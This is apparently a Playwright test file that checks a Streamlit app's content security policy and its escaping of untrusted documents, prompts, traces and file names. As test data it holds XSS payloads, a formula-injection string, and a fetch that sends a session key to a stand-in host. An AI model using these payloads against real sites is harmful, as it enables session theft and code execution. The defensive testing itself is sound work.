"""The whole page under its policy: nothing it does is refused, nothing that is slipped in runs.

What strangers write (documents, traces, prompts, file names, commands) is shown as text.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import TYPE_CHECKING, Any

import pytest

from tests.browser.test_page import Tab
from tests.servers import ROOT
from tests.waiting import becomes

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

# Streamlit's protobuf library tries WebAssembly for its large integers, and does without.
EXPECTED = {("script-src", "wasm-eval")}
LISTEN = """
window.refused = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.refused.push([event.effectiveDirective, event.blockedURI]);
});
"""
# Each would set `window.ran`, or ask another server, if it were more than a text.
HOSTILE = (
    "<img src=x onerror='window.ran=1'>",
    "</script><script>window.ran=2</script>",
    "<svg onload='window.ran=3'><a href='javascript:window.ran=4'>x</a></svg>",
    "[a](javascript:window.ran=5) ![b](http://elsewhere.example/b.png) <http://elsewhere.example>",
    "\u202egnol\u202c and \u2066inside\u2069, 👩‍👩‍👧‍👦, e\u0301\u0301\u0301, \u200b, \ufeff",
    "=cmd|' /C calc'!A0 {{window.ran=6}} ${window.ran=7} `code` $x^2$ :red[red] <b>bold</b>",
    "'\"><iframe srcdoc='<script>parent.ran=8</script>'></iframe>",
)
ALL = " ".join(HOSTILE)


@pytest.fixture
def tab(browser: Browser, server_url: str) -> Iterator[Tab]:
    """A tab in which nothing may run that came as text, nor anything be asked of another server."""
    context = browser.new_context(viewport={"width": 1400, "height": 900})
    page = context.new_page()
    page.add_init_script(LISTEN)
    said: list[str] = []
    page.on("dialog", lambda dialog: said.append(dialog.message))
    tab = Tab(page, server_url).open()
    yield tab
    assert page.evaluate("window.ran") is None
    foreign = [url for url in tab.requested if not url.startswith((server_url, "blob:", "data:"))]
    assert (said, foreign, tab.faults) == ([], [], [])
    context.close()


def refused(page: Page) -> set[tuple[str, str]]:
    """What the policy refused, beyond what is known."""
    return {(directive, uri) for directive, uri in page.evaluate("window.refused")} - EXPECTED


def test_a_visit_to_every_place_asks_for_nothing_that_is_refused(tab: Tab) -> None:
    from playwright.sync_api import expect

    page = tab.page
    tab.send("Once upon a time", max_tokens=6)
    tab.press("Step")
    tab.wait_for("s.headEngine.step", 1)
    for view in range(3):
        tab.view(view)
    page.locator(".gb-box[data-component=scheduler]").dblclick()
    page.wait_for_selector(".gb-room:not([hidden]) .gb-room-inside")
    page.keyboard.press("Escape")
    with page.expect_download() as download:
        page.locator("[data-act=save]").click()
        page.locator("[data-save=csv]").click()
    assert download.value.path().read_bytes()[:2] == b"PK"

    page.get_by_role("button", name="Lessons").click()
    side = page.locator("[data-testid=stSidebar]")
    side.locator(".st-key-gb-start-one-request button").click()
    expect(side).to_contain_text("Step 1 of")
    side.get_by_role("button", name="Next").click()
    expect(side).to_contain_text("A client asks")
    tab.settle()

    page.locator(".st-key-gb-compare-toggle button").click()
    choose(page, "gb-compare-source", "Preset: Shared prefix")
    choose(page, "gb-compare-knob", "enable_prefix_caching")
    page.locator(".st-key-gb-compare-run button").click()
    expect(page.locator(".js-plotly-plot")).to_have_count(4)
    chart = page.locator(".js-plotly-plot").first
    expect(chart.locator(".main-svg").first).to_be_visible()
    chart.hover()
    with page.expect_download() as picture:
        chart.locator(".modebar-btn[data-title*='Download']").click()
    assert picture.value.suggested_filename.endswith(".png")
    tab.settle()
    assert refused(page) == set()


def choose(page: Page, key: str, option: str) -> None:
    page.locator(f".st-key-{key} [role=combobox], .st-key-{key} button").last.click()
    page.get_by_role("option", name=option, exact=True).click()


SLIPPED_IN: dict[str, tuple[str, str]] = {  # what it does to the page, and what refuses it
    "inline script": (
        "const s = document.createElement('script'); s.textContent = 'window.ran = 1';"
        "document.body.append(s)",
        "script-src-elem",
    ),
    "inline handler": (
        "document.body.insertAdjacentHTML('beforeend', '<i onclick=\"window.ran=1\" id=evil></i>');"
        "document.getElementById('evil').click()",
        "script-src-attr",
    ),
    "script of another server": (
        "const s = document.createElement('script'); s.src = 'http://elsewhere.example/a.js';"
        "document.body.append(s)",
        "script-src-elem",
    ),
    "text as code": ("setTimeout('window.ran = 1')", "script-src"),
    "request to another server": (
        "fetch('http://elsewhere.example/?key=' + sessionStorage['glassbox.session'])"
        ".catch(() => {})",
        "connect-src",
    ),
    "picture of another server": ("new Image().src = 'http://elsewhere.example/p.png'", "img-src"),
    "frame": (
        "document.body.append(Object.assign(document.createElement('iframe'), {src: '/'}))",
        "frame-src",
    ),
    "form": (
        "const f = document.createElement('form'); f.action = 'http://elsewhere.example/';"
        "document.body.append(f); f.submit()",
        "form-action",
    ),
}


def test_what_is_slipped_into_the_page_does_not_run(tab: Tab) -> None:
    for name, (act, directive) in SLIPPED_IN.items():
        tab.page.evaluate(f"() => {{ window.refused = []; {act}; }}")
        becomes(lambda: {found for found, _ in refused(tab.page)}, {directive}, name)
    assert tab.page.evaluate("window.ran") is None
    tab.requested.clear()  # what was refused is listed too, though nothing left


def hostile_document() -> bytes:
    """A map all of whose texts are markup."""
    boxes = [
        {"id": f"box{i}", "type": "frontend", "label": text, "sublabel": text}
        for i, text in enumerate(HOSTILE)
    ]
    lines = [
        {"from": f"box{i}", "to": f"box{i + 1}", "label": text}
        for i, text in enumerate(HOSTILE[:-1])
    ]
    document: dict[str, Any] = {
        "schema_version": 1,
        "diagram_type": "architecture",
        "meta": {
            "title": HOSTILE[0],
            "subtitle": HOSTILE[3],
            "views": [{"id": "all", "label": HOSTILE[1], "focus": ["box0"], "note": HOSTILE[2]}],
        },
        "components": boxes,
        "connections": lines,
        "cards": [{"dot": "rose", "title": HOSTILE[0], "items": list(HOSTILE)}],
    }
    return json.dumps(document).encode()


def test_a_hostile_document_is_shown_as_text(tab: Tab) -> None:
    from playwright.sync_api import expect

    page = tab.page
    name = "<img src=x onerror='window.ran=9'>.json"
    page.get_by_role("button", name="Document", exact=True).click()
    upload = page.locator("[data-testid=stFileUploader] input[type=file]")
    upload.set_input_files({"name": name, "mimeType": "text/json", "buffer": hostile_document()})
    tab.has(".gb-document h4", HOSTILE[0])
    tab.has(".gb-document code", name)
    tab.settle()
    page.keyboard.press("Escape")
    expect(page.locator(".gb-map .gb-box")).to_have_count(len(HOSTILE))
    page.locator(".gb-map .gb-box").first.click()
    tab.has(".gb-inspector h2:visible", HOSTILE[0])
    assert page.locator(".gb iframe, .gb img, .gb script, .gb [onload], .gb [onerror]").count() == 0
    assert refused(page) == set()


def test_a_hostile_prompt_goes_through_all_views_as_text(tab: Tab) -> None:
    page = tab.page
    tab.send(ALL, max_tokens=2)
    tab.press("Step")
    tab.wait_for("s.headEngine.step", 1)
    for view in range(3):
        tab.view(view)
    tab.store("(s.select({request: 'r0'}), 0)")
    prompt = page.locator(".gb-inspector [aria-label=Prompt]")
    prompt.wait_for()
    assert prompt.inner_text() == ALL.strip()
    assert page.locator(".gb iframe, .gb img, .gb script, .gb [onload], .gb [onerror]").count() == 0
    assert refused(page) == set()


def test_a_hostile_trace_and_its_file_name_are_shown_as_text(tab: Tab) -> None:
    page = tab.page
    tab.send("a", max_tokens=2)
    tab.press("Step")
    tab.wait_for("s.headEngine.step", 1)
    log = tab.log()
    log.header["model"]["name"] = HOSTILE[0]
    log.header["document"] = HOSTILE[1]
    lines = [{"kind": "header", **log.header}, *log.records]
    text = "\n".join(json.dumps(line) for line in lines).replace('"r0"', json.dumps(HOSTILE[2]))
    name = "</b><img src=x onerror='window.ran=10'>.jsonl"
    page.get_by_label("Open a saved trace").set_input_files(
        {"name": name, "mimeType": "text/plain", "buffer": text.encode()}
    )
    tab.has(".gb-banner", name)
    for view in range(3):
        tab.view(view)
    tab.wait_for(f"Object.keys(s.state.requests)[0] === {json.dumps(HOSTILE[2])}", True)
    tab.has("#gb-panel", "")
    assert page.locator(".gb iframe, .gb img, .gb script, .gb [onload], .gb [onerror]").count() == 0
    assert refused(page) == set()


def test_what_a_refused_setting_quotes_is_no_markdown(tab: Tab) -> None:
    from playwright.sync_api import expect

    page = tab.page
    page.get_by_role("button", name="Engine", exact=True).click()
    page.get_by_text("As a vllm serve command").click()
    page.get_by_label("Paste a command").fill(
        "vllm serve m --max-num-seqs '![b](http://elsewhere.example/b.png)<b>x</b>' --'<i>y</i>'"
    )
    page.get_by_role("button", name="Fill the form").click()
    said = page.locator("[data-testid=stExpander]", has_text="As a vllm serve command")
    expect(said).to_contain_text("![b](http://elsewhere.example/b.png)<b>x</b>")
    expect(said.locator("img, a, b")).to_have_count(0)
    assert refused(page) == set()


def test_no_text_of_ours_goes_into_the_page_as_markup() -> None:
    """The browser's part makes elements one by one; the server's escapes what it puts into HTML."""
    sinks = (
        "innerHTML",
        "outerHTML",
        "insertAdjacentHTML",
        "document.write",
        "srcdoc",
        "DOMParser",
    )
    for path in (ROOT / "views" / "assets").rglob("*.js"):
        assert not [sink for sink in sinks if sink in path.read_text()], path
    for path in (ROOT / "views").rglob("*.py"):
        assert "unsafe_allow" not in path.read_text(), path
